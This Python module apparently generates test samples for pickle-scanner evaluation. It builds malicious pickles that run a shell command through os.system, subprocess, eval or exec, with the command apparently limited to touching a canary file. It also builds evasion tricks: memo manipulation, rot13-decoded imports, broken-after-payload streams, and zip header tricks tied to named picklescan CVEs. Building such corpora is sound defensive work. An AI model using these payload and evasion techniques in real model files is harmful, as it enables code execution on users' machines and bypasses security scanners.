"""Class ``classic``: the well-known payloads, protocols 0-5, memo tricks, nullifAI-style broken
pickles, and archive tricks around a torch checkpoint's ``data.pkl`` (the picklescan CVEs of
2025: bad CRC, flag bits, local/central name mismatch) plus nested containers."""

from __future__ import annotations

import io
import os
import pickle
import tarfile
import zipfile
from pathlib import Path

from . import _build as b
from ._build import ZipMember, build_zip
from ._common import Spec, torch_members, torch_zip


class _Reduce:
    """An object whose ``__reduce__`` names the callable: pickle.dumps writes the payload."""

    def __init__(self, fn: object, *args: object) -> None:
        self.fn, self.args = fn, args

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.fn, self.args


def _t0(text: str) -> bytes:
    return b.textstr(text)


def build(canary: Path) -> list[Spec]:
    cmd, code, expr = b.shell_cmd(canary), b.py_code(canary), b.py_expr(canary)
    specs: list[Spec] = []

    def add(name: str, desc: str, data: bytes, check: bool = True) -> None:
        if check:
            b.check_pickle(data)
        specs.append(Spec(name, "classic", desc, data))

    # -- protocols and opcodes -------------------------------------------------------------
    add("p0-os-system.pkl", "protocol 0: GLOBAL os.system, MARK, STRING, TUPLE, REDUCE",
        b.glob("os", "system") + b.MARK + _t0(cmd) + b.TUPLE + b.REDUCE + b.STOP)
    add("p1-posix-system.pkl", "protocol 1: GLOBAL posix.system with BINPUT and SHORT_BINSTRING",
        b.glob("posix", "system") + b"q\x00" + b.MARK + b.binstr(cmd) + b.TUPLE + b.REDUCE + b.STOP)
    add("p2-subprocess-popen.pkl", "protocol 2: subprocess.Popen(['sh', '-c', cmd])",
        b.stream(b.call(b.glob("subprocess", "Popen"),
                        b.plist(b.binstr("sh"), b.binstr("-c"), b.binstr(cmd))), 2))
    add("p2-builtin-py2-eval.pkl", "protocol 2: Python 2 name __builtin__.eval (mapped to builtins)",
        b.stream(b.call(b.glob("__builtin__", "eval"), b.binstr(expr)), 2))
    add("p3-builtins-eval.pkl", "protocol 3: builtins.eval(expr)",
        b.stream(b.call(b.glob("builtins", "eval"), b.ustr(expr)), 3))
    add("p4-exec-frame.pkl", "protocol 4 with FRAME and STACK_GLOBAL builtins.exec",
        b.proto(4) + b.frame(b.exec_call(canary) + b.STOP))
    add("p5-dumps-os-system.pkl", "pickle.dumps(protocol=5) of an object reducing to os.system(cmd)",
        pickle.dumps(_Reduce(os.system, cmd), protocol=5))
    add("p2-dumps-os-system.bin", "pickle.dumps(protocol=2) of an object reducing to os.system(cmd), "
        "named like pytorch_model.bin", pickle.dumps(_Reduce(os.system, cmd), protocol=2))
    add("runpy-run-code.pkl", "runpy._run_code(code, {}) execs", b.stream(
        b.call(b.sglob("runpy", "_run_code"), b.ustr(code), b.EMPTY_DICT)))
    add("subprocess-check-output.pkl", "subprocess.check_output(['touch', path])", b.stream(
        b.call(b.sglob("subprocess", "check_output"), b.plist(b.ustr("touch"), b.ustr(str(canary))))))
    add("subprocess-getoutput.pkl", "subprocess.getoutput(cmd)", b.stream(
        b.call(b.sglob("subprocess", "getoutput"), b.ustr(cmd))))
    add("os-popen.pkl", "os.popen(cmd)", b.stream(b.call(b.sglob("os", "popen"), b.ustr(cmd))))
    add("os-spawnl.pkl", "os.spawnl(P_WAIT, '/bin/sh', 'sh', '-c', cmd)", b.stream(
        b.call(b.sglob("os", "spawnl"), b.pint(0), b.ustr("/bin/sh"), b.ustr("sh"), b.ustr("-c"),
               b.ustr(cmd))))
    add("inst-opcode.pkl", "protocol 0 INST opcode: (S'cmd' ios\\nsystem",
        b.MARK + _t0(cmd) + b"ios\nsystem\n" + b.STOP)
    add("obj-opcode.pkl", "protocol 1 OBJ opcode: MARK, GLOBAL os.system, args, OBJ",
        b.MARK + b.glob("os", "system") + _t0(cmd) + b"o" + b.STOP)
    add("getattr-import-chain.pkl", "builtins.getattr(builtins.__import__('os'), 'system')(cmd)",
        b.stream(b.call(b.call(b.sglob("builtins", "getattr"),
                               b.call(b.sglob("builtins", "__import__"), b.ustr("os")),
                               b.ustr("system")), b.ustr(cmd))))

    # -- memo tricks ----------------------------------------------------------------------
    add("memo-split-stack-global.pkl",
        "STACK_GLOBAL whose operands are BINGETs of 'os'/'system' memoized long before, with decoy "
        "torch strings in between",
        b.stream(b.ustr("os") + b.MEMOIZE + b.POP + b.ustr("torch._utils") + b.MEMOIZE + b.POP
                 + b.ustr("system") + b.MEMOIZE + b.POP + b.ustr("_rebuild_tensor_v2") + b.MEMOIZE + b.POP
                 + b"h\x00h\x02" + b.STACK_GLOBAL + b.ustr(cmd) + b.TUPLE1 + b.REDUCE))
    add("memo-put-memoize-mix.pkl",
        "BINPUT 0/1 hold 'os'/'system', then MEMOIZE adds decoys at 2/3: a scanner counting only "
        "MEMOIZE thinks memo[0] is 'torch._utils' (picklescan issue #14)",
        b.stream(b.ustr("os") + b"q\x00" + b.POP + b.ustr("system") + b"q\x01" + b.POP
                 + b.ustr("torch._utils") + b.MEMOIZE + b.POP + b.ustr("_rebuild_tensor_v2") + b.MEMOIZE
                 + b.POP + b"h\x00h\x01" + b.STACK_GLOBAL + b.ustr(cmd) + b.TUPLE1 + b.REDUCE))
    add("memo-overwrite.pkl",
        "memo slot 0 first holds 'torch', then is overwritten with 'os' before the BINGET "
        "(the unpickler allows redefinition; pickletools.dis refuses it)",
        b.stream(b.ustr("torch") + b"q\x00" + b.POP + b.ustr("os") + b"q\x00" + b.POP
                 + b"h\x00" + b.ustr("system") + b.STACK_GLOBAL + b.ustr(cmd) + b.TUPLE1 + b.REDUCE),
        check=False)
    add("memo-text-put-get.pkl",
        "protocol 0 PUT/GET text opcodes ('p0\\n', 'g0\\n') carry the operands of STACK_GLOBAL",
        b.stream(_t0("os") + b"p0\n" + b.POP + _t0("system") + b"p1\n" + b.POP
                 + b"g0\ng1\n" + b.STACK_GLOBAL + _t0(cmd) + b.TUPLE1 + b.REDUCE, 4))
    add("memo-long-index.pkl",
        "LONG_BINPUT/LONG_BINGET at memo index 70000",
        b.stream(b.ustr("os") + b"r\x70\x11\x01\x00" + b.POP + b.ustr("system") + b"r\x71\x11\x01\x00"
                 + b.POP + b"j\x70\x11\x01\x00j\x71\x11\x01\x00" + b.STACK_GLOBAL + b.ustr(cmd)
                 + b.TUPLE1 + b.REDUCE))
    rot = b.sglob("_codecs", "decode")
    add("stack-global-rot13-operands.pkl",
        "STACK_GLOBAL operands computed at load time: _codecs.decode('bf', 'rot13') is 'os'",
        b.stream(b.call(rot, b.ustr("bf"), b.ustr("rot13")) + b.call(rot, b.ustr("flfgrz"), b.ustr("rot13"))
                 + b.STACK_GLOBAL + b.ustr(cmd) + b.TUPLE1 + b.REDUCE))

    # -- nullifAI: the payload runs, then the pickle breaks -----------------------------------
    broken = b.proto(2) + b.system_call(canary) + b.POP + b"\xff\xfe garbage"
    add("broken-after-payload.pt", "nullifAI (ReversingLabs 2025): payload first, then an invalid "
        "opcode and no STOP; the loader fails only after the command ran", broken, check=False)
    add("broken-after-payload-torchzip.pt", "nullifAI-style broken data.pkl inside a real torch zip",
        torch_zip(broken), check=False)
    add("truncated-after-payload.pkl", "payload, then a BINUNICODE claiming more bytes than remain",
        b.proto(4) + b.exec_call(canary) + b"X\xff\xff\x00\x00abc", check=False)
    add("broken-in-dict.pkl", "payload inside a half-built dict, then the stream just ends",
        b.proto(2) + b.EMPTY_DICT + b.MARK + b.binstr("model") + b.system_call(canary), check=False)

    # -- archive tricks around data.pkl ------------------------------------------------------
    bad = b.stream(b.system_call(canary), 2)
    clean = b.stream(b.pdict([(b.ustr("weight"), b.pint(1))]), 2)

    def zipped(name: str, desc: str, members: list[ZipMember], **kw: object) -> None:
        specs.append(Spec(name, "classic", desc, build_zip(members, **kw)))  # type: ignore[arg-type]

    def with_dp(**fields: object) -> list[ZipMember]:
        members = torch_members(bad)
        for m in members:
            if m.name.endswith("/data.pkl"):
                for key, value in fields.items():
                    setattr(m, key, value)
        return members

    zipped("zip-bad-crc.pt", "torch zip whose data.pkl CRC is wrong (JFrog CVE-2025-10156: "
           "zipfile refuses to read it, torch's reader does not check)", with_dp(crc=0x12345678))
    zipped("zip-flag-encrypted-local-only.pt", "data.pkl's local header says encrypted (bit 0), the "
           "central directory does not (Sonatype CVE-2025-1945 flag-bit class): torch and zipfile "
           "both read it", with_dp(flags=0x1, central_flags=0))
    zipped("zip-flag-patched-local-only.pt", "local header flags data.pkl 'compressed patched data' "
           "(bit 5), the central directory does not", with_dp(flags=0x20, central_flags=0))
    zipped("zip-flag-strong-encryption-local-only.pt", "local header flags data.pkl 'strong "
           "encryption' (bit 6), the central directory does not", with_dp(flags=0x40, central_flags=0))
    zipped("zip-flag-descriptor-without-descriptor.pt", "data.pkl flagged 'sizes in a data descriptor' "
           "(bit 3) though none follows; the headers' sizes are used", with_dp(flags=0x8))
    zipped("zip-name-mismatch.pt", "data.pkl's local header names another file than the central "
           "directory (Sonatype CVE-2025-1944)", with_dp(local_name="archive/data/1"))
    zipped("zip-deflated-datapkl.pt", "data.pkl deflate-compressed (torch writes it stored)",
           with_dp(method=8))
    dup = torch_members(bad)
    dup.insert(0, ZipMember("archive/data.pkl", clean))
    zipped("zip-duplicate-clean-first.pt", "two archive/data.pkl entries, the clean one first "
           "(readers disagree on which one counts)", dup)
    dup2 = torch_members(bad)
    dup2.append(ZipMember("archive/data.pkl", clean))
    zipped("zip-duplicate-bad-first.pt", "two archive/data.pkl entries, the malicious one first", dup2)
    decoy = torch_members(bad)
    decoy.insert(0, ZipMember("archive/data.pkl", clean, in_central=False))
    zipped("zip-local-only-decoy.pt", "a clean data.pkl that only a local header knows of (no central "
           "entry), before the real, malicious one: local-header walkers see the decoy", decoy)
    zipped("zip-7z-magic-prefix.zip", "a torch zip behind a 7z signature (nullifAI used 7z): "
           "zipfile still opens it (prepended data), a magic sniffer calls it 7z",
           torch_members(bad), prefix=b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 24)
    zipped("zip-lz4-magic-prefix.zip", "a torch zip behind an LZ4 frame magic: zipfile opens it",
           torch_members(bad), prefix=b"\x04\x22\x4d\x18\x64\x40\xa7" + b"\x00" * 9)
    npz_obj = b.npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", bad)
    zipped("npz-eocd-count-lie.npz", "an .npz whose end record claims 0 entries: Python's zipfile "
           "(np.load) reads the directory anyway", [ZipMember("arr_0.npy", npz_obj, align=0)], eocd_count=0)

    # nested containers: a zip in a zip, a tar.gz around a torch zip
    inner = torch_zip(bad)
    zipped("zip-in-zip.zip", "a release zip holding pytorch_model.bin, itself a torch zip with a "
           "malicious data.pkl", [ZipMember("release/pytorch_model.bin", inner, align=0, method=8)])
    tbuf = io.BytesIO()
    with tarfile.open(fileobj=tbuf, mode="w:gz", format=tarfile.USTAR_FORMAT) as tf:
        info = tarfile.TarInfo("model/pytorch_model.bin")
        info.size, info.mtime = len(inner), 0
        tf.addfile(info, io.BytesIO(inner))
    specs.append(Spec("targz-torch-zip.tar.gz", "classic", "a .tar.gz release archive holding a torch "
                      "zip with a malicious data.pkl", _gzip_fixed(tbuf.getvalue())))
    zbuf = io.BytesIO()
    with zipfile.ZipFile(zbuf, "w") as zf:
        zf.writestr(zipfile.ZipInfo("weights/model.pkl", date_time=(1980, 1, 1, 0, 0, 0)), bad)
    specs.append(Spec("zip-plain-pickle-entry.zip", "classic", "a plain zip with a malicious .pkl entry",
                      zbuf.getvalue()))
    return specs


def _gzip_fixed(data: bytes) -> bytes:
    """Zero the gzip header's mtime so the archive is byte-for-byte reproducible."""
    return data[:4] + b"\x00\x00\x00\x00" + data[8:]
